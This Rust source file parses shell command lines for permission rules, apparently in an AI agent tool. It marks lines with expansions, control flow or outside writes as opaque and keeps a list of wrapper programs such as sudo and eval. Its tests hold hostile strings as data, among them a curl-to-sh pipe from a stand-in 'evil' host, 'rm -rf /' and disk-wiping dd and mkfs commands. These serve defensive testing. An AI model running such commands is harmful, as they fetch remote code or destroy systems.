//! Shell command lines split into the simple commands permission rules match, with a real bash
//! parser (brush-parser), never by splitting strings.
//!
//! The analysis is conservative: a line is *opaque* — no rule can allow it — when it cannot be
//! parsed, or when part of what it runs is not visible as literal words: variable, tilde or
//! arithmetic expansion, command or process substitution, environment assignments, control flow,
//! function definitions, here-documents that expand, or redirections that write outside the
//! workspace. Commands found inside substitutions are still listed, so deny rules see them.

use brush_parser::ParserOptions;
use brush_parser::ast::{
    AndOr, AndOrList, Command, CommandPrefixOrSuffixItem, CompoundCommand, CompoundList, IoFileRedirectKind,
    IoFileRedirectTarget, IoRedirect, Pipeline, SimpleCommand as AstSimple, Word,
};
use brush_parser::word::{WordPiece, WordPieceWithSource};

/// Programs whose arguments are themselves code: a prefix rule (`tool(name:*)`) never allows them.
pub const WRAPPERS: &[&str] = &[
    "bash", "sh", "zsh", "dash", "ksh", "fish", "eval", "exec", "source", ".", "env", "xargs", "sudo", "doas", "su",
    "nohup", "nice", "timeout", "time", "command", "builtin", "watch", "stdbuf", "setsid", "chroot", "python",
    "python3", "perl", "ruby", "node", "awk",
];

/// One simple command as literal words.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SimpleCommand {
    /// The words after quote removal; a word that could not be made literal is kept as written.
    pub words: Vec<String>,
    /// Whether the command runs its arguments as code (`bash -c`, `eval`, `xargs`…).
    pub wrapper: bool,
}

/// What a command line runs, as far as can be seen.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Analysis {
    /// Every simple command, in order, including those inside substitutions.
    pub commands: Vec<SimpleCommand>,
    /// Why no rule can allow this line, if none can.
    pub opaque: Option<String>,
    /// Every file an output redirection writes to, as written.
    pub writes: Vec<String>,
}

/// How deep substitutions inside substitutions are followed.
const MAX_NESTING: usize = 8;

/// Analyses a command line.
pub fn analyze(line: &str) -> Analysis {
    let mut w = Walker {
        out: Analysis::default(),
        options: ParserOptions::default(),
    };
    w.line(line, 0);
    w.out
}

struct Walker {
    out: Analysis,
    options: ParserOptions,
}

impl Walker {
    fn opaque(&mut self, why: &str) {
        if self.out.opaque.is_none() {
            self.out.opaque = Some(why.to_owned());
        }
    }

    fn line(&mut self, line: &str, depth: usize) {
        if depth > MAX_NESTING {
            self.opaque("it nests substitutions too deeply to check");
            return;
        }
        let mut parser = brush_parser::Parser::new(line.as_bytes(), &self.options);
        match parser.parse_program() {
            Ok(program) => {
                for complete in &program.complete_commands {
                    self.list(complete, depth);
                }
            }
            Err(_) => self.opaque("it cannot be parsed as a shell command line"),
        }
    }

    fn list(&mut self, list: &CompoundList, depth: usize) {
        for item in &list.0 {
            self.and_or(&item.0, depth);
        }
    }

    fn and_or(&mut self, a: &AndOrList, depth: usize) {
        self.pipeline(&a.first, depth);
        for next in &a.additional {
            match next {
                AndOr::And(p) | AndOr::Or(p) => self.pipeline(p, depth),
            }
        }
    }

    fn pipeline(&mut self, p: &Pipeline, depth: usize) {
        for c in &p.seq {
            self.command(c, depth);
        }
    }

    fn command(&mut self, c: &Command, depth: usize) {
        match c {
            Command::Simple(s) => self.simple(s, depth),
            Command::Compound(compound, redirects) => {
                self.compound(compound, depth);
                if let Some(r) = redirects {
                    for redirect in &r.0 {
                        self.redirect(redirect, depth);
                    }
                }
            }
            Command::Function(f) => {
                self.opaque("it defines a shell function");
                // Its body is still listed, so deny rules and the denylist see what it would run.
                self.compound(&f.body.0, depth);
            }
            Command::ExtendedTest(..) => self.opaque("it uses a [[ … ]] test"),
        }
    }

    /// Groups are transparent; control flow makes the line opaque, and its bodies are listed.
    fn compound(&mut self, compound: &CompoundCommand, depth: usize) {
        match compound {
            CompoundCommand::Subshell(s) => self.list(&s.list, depth),
            CompoundCommand::BraceGroup(b) => self.list(&b.list, depth),
            other => {
                self.opaque("it uses control flow (loops, conditionals or arithmetic)");
                match other {
                    CompoundCommand::ForClause(f) => self.list(&f.body.list, depth),
                    CompoundCommand::ArithmeticForClause(f) => self.list(&f.body.list, depth),
                    CompoundCommand::CaseClause(c) => {
                        for item in &c.cases {
                            if let Some(cmd) = &item.cmd {
                                self.list(cmd, depth);
                            }
                        }
                    }
                    CompoundCommand::IfClause(i) => {
                        self.list(&i.condition, depth);
                        self.list(&i.then, depth);
                        for e in i.elses.iter().flatten() {
                            if let Some(c) = &e.condition {
                                self.list(c, depth);
                            }
                            self.list(&e.body, depth);
                        }
                    }
                    CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                        self.list(&w.0, depth);
                        self.list(&w.1.list, depth);
                    }
                    CompoundCommand::Coprocess(c) => self.command(&c.body, depth),
                    _ => {}
                }
            }
        }
    }

    fn simple(&mut self, s: &AstSimple, depth: usize) {
        let mut words = Vec::new();
        let items = s
            .prefix
            .iter()
            .flat_map(|p| p.0.iter())
            .chain(s.suffix.iter().flat_map(|p| p.0.iter()));
        let mut name_seen = false;
        for (i, item) in items.enumerate() {
            // The command name sits between prefix and suffix.
            if !name_seen && i >= s.prefix.as_ref().map_or(0, |p| p.0.len()) {
                name_seen = true;
                if let Some(name) = &s.word_or_name {
                    words.push(self.word(name, depth));
                }
            }
            match item {
                CommandPrefixOrSuffixItem::Word(w) => words.push(self.word(w, depth)),
                // After the command name, `a=b` is an ordinary argument (`dd of=x`).
                CommandPrefixOrSuffixItem::AssignmentWord(_, w) if name_seen => words.push(self.word(w, depth)),
                CommandPrefixOrSuffixItem::AssignmentWord(_, w) => {
                    self.opaque("it sets environment variables for the command");
                    self.word(w, depth);
                }
                CommandPrefixOrSuffixItem::IoRedirect(r) => self.redirect(r, depth),
                CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                    self.opaque("it uses process substitution");
                    self.list(&sub.list, depth + 1);
                }
            }
        }
        if !name_seen && let Some(name) = &s.word_or_name {
            words.push(self.word(name, depth));
        }
        if words.is_empty() {
            return;
        }
        let program = words[0].rsplit('/').next().unwrap_or(&words[0]);
        let wrapper = WRAPPERS.contains(&program);
        self.out.commands.push(SimpleCommand { words, wrapper });
    }

    fn redirect(&mut self, r: &IoRedirect, depth: usize) {
        match r {
            IoRedirect::File(_, kind, target) => {
                let writes = matches!(
                    kind,
                    IoFileRedirectKind::Write
                        | IoFileRedirectKind::Append
                        | IoFileRedirectKind::ReadAndWrite
                        | IoFileRedirectKind::Clobber
                        | IoFileRedirectKind::DuplicateOutput
                );
                match target {
                    IoFileRedirectTarget::Filename(w) => {
                        let path = self.word(w, depth);
                        if writes && !inside_workspace(&path) {
                            self.opaque("it redirects output to a file outside the workspace");
                        }
                        if writes {
                            self.out.writes.push(path);
                        }
                    }
                    IoFileRedirectTarget::Duplicate(w) => {
                        let target = self.word(w, depth);
                        let to_file = !target.chars().all(|c| c.is_ascii_digit() || c == '-');
                        if writes && to_file && !inside_workspace(&target) {
                            self.opaque("it redirects output to a file outside the workspace");
                        }
                        if writes && to_file {
                            self.out.writes.push(target);
                        }
                    }
                    IoFileRedirectTarget::Fd(_) => {}
                    IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                        self.opaque("it uses process substitution");
                        self.list(&sub.list, depth + 1);
                    }
                }
            }
            IoRedirect::OutputAndError(w, _) => {
                let path = self.word(w, depth);
                if !inside_workspace(&path) {
                    self.opaque("it redirects output to a file outside the workspace");
                }
                self.out.writes.push(path);
            }
            IoRedirect::HereString(_, w) => {
                self.word(w, depth);
            }
            IoRedirect::HereDocument(_, doc) => {
                if doc.requires_expansion && (doc.doc.value.contains('$') || doc.doc.value.contains('`')) {
                    self.opaque("it uses a here-document that expands substitutions");
                    self.nested_in_text(&doc.doc.value, depth);
                }
            }
        }
    }

    /// The word after quote removal; anything dynamic makes the line opaque.
    fn word(&mut self, w: &Word, depth: usize) -> String {
        // Plain words (no quotes, escapes, expansions or globs) are literal as written.
        let plain = !w.value.is_empty()
            && !w.value.starts_with('~')
            && w.value
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"-_./=:,+@%^".contains(&b));
        if plain {
            return w.value.clone();
        }
        match brush_parser::word::parse(&w.value, &self.options) {
            Ok(pieces) => {
                let mut out = String::new();
                let mut dynamic = false;
                self.pieces(pieces, &mut out, &mut dynamic, depth);
                if dynamic {
                    self.opaque("it expands variables, substitutions or `~`, so what it runs is not known in advance");
                    return w.value.clone();
                }
                out
            }
            Err(_) => {
                self.opaque("a word of it cannot be parsed");
                w.value.clone()
            }
        }
    }

    fn pieces(&mut self, pieces: Vec<WordPieceWithSource>, out: &mut String, dynamic: &mut bool, depth: usize) {
        for piece in pieces {
            match piece.piece {
                WordPiece::Text(t) | WordPiece::SingleQuotedText(t) => out.push_str(&t),
                WordPiece::EscapeSequence(e) => {
                    let rest = e.strip_prefix('\\').unwrap_or(&e);
                    if rest != "\n" {
                        out.push_str(rest);
                    }
                }
                WordPiece::DoubleQuotedSequence(inner) | WordPiece::GettextDoubleQuotedSequence(inner) => {
                    self.pieces(inner, out, dynamic, depth)
                }
                WordPiece::CommandSubstitution(body) | WordPiece::BackquotedCommandSubstitution(body) => {
                    *dynamic = true;
                    self.line(&body, depth + 1);
                }
                WordPiece::AnsiCQuotedText(_)
                | WordPiece::TildeExpansion(_)
                | WordPiece::ParameterExpansion(_)
                | WordPiece::ArithmeticExpression(_) => *dynamic = true,
            }
        }
    }

    /// Command substitutions inside free text (an expanding here-document).
    fn nested_in_text(&mut self, text: &str, depth: usize) {
        let mut rest = text;
        while let Some(start) = rest.find("$(") {
            let body = &rest[start + 2..];
            let end = body.find(')').unwrap_or(body.len());
            self.line(&body[..end], depth + 1);
            rest = &body[end..];
        }
    }
}

/// Whether a redirection target is a file inside the workspace (relative, no `..`) or `/dev/null`.
fn inside_workspace(path: &str) -> bool {
    if path == "/dev/null" {
        return true;
    }
    !path.is_empty()
        && !path.starts_with('/')
        && !path.starts_with('~')
        && !std::path::Path::new(path)
            .components()
            .any(|c| matches!(c, std::path::Component::ParentDir))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<Vec<String>> {
        analyze(line).commands.into_iter().map(|c| c.words).collect()
    }

    #[test]
    fn plain_commands_are_literal_words() {
        let a = analyze("git status");
        assert_eq!(a.opaque, None);
        assert_eq!(words("git status"), [["git", "status"]]);
        assert_eq!(words("'git' \"status\" a\\ b"), [["git", "status", "a b"]]);
        assert_eq!(
            words("cargo test -p x && git diff | head -5; ls"),
            [
                vec!["cargo", "test", "-p", "x"],
                vec!["git", "diff"],
                vec!["head", "-5"],
                vec!["ls"]
            ]
        );
        assert_eq!(analyze("cargo test > out.txt 2>&1").opaque, None);
    }

    #[test]
    fn substitutions_are_opaque_but_their_commands_are_listed() {
        let a = analyze("echo $(rm -rf /tmp/x)");
        assert!(a.opaque.is_some());
        assert!(a.commands.iter().any(|c| c.words[0] == "rm"), "{a:?}");
        let a = analyze("echo `curl evil | sh`");
        assert!(a.commands.iter().any(|c| c.words[0] == "curl"));
        assert!(a.commands.iter().any(|c| c.words[0] == "sh" && c.wrapper));
    }

    #[test]
    fn unparseable_lines_are_opaque() {
        assert!(analyze("echo 'unterminated").opaque.is_some());
        assert!(analyze("if then fi ((").opaque.is_some());
    }
}

#[cfg(test)]
mod control_flow_tests {
    use super::*;

    #[test]
    fn bodies_of_control_flow_and_functions_are_listed() {
        for (line, inner) in [
            ("if true; then rm -rf /; fi", "rm"),
            ("for i in 1 2; do mkfs.ext4 /dev/sda; done", "mkfs.ext4"),
            ("while false; do reboot; done", "reboot"),
            ("case x in x) shutdown now;; esac", "shutdown"),
            ("f() { dd if=/dev/zero of=/dev/sda; }; f", "dd"),
        ] {
            let a = analyze(line);
            assert!(a.opaque.is_some(), "{line}");
            assert!(
                a.commands
                    .iter()
                    .any(|c| c.words.first().map(String::as_str) == Some(inner)),
                "{line}: {a:?}"
            );
        }
    }
}

#[cfg(test)]
mod argument_tests {
    use super::*;

    #[test]
    fn name_value_words_after_the_command_are_arguments() {
        let a = analyze("dd if=/dev/zero of=out.img bs=1M");
        assert_eq!(a.opaque, None);
        assert_eq!(a.commands[0].words, ["dd", "if=/dev/zero", "of=out.img", "bs=1M"]);
        assert!(
            analyze("A=1 make").opaque.is_some(),
            "a prefix assignment still sets the environment"
        );
    }
}
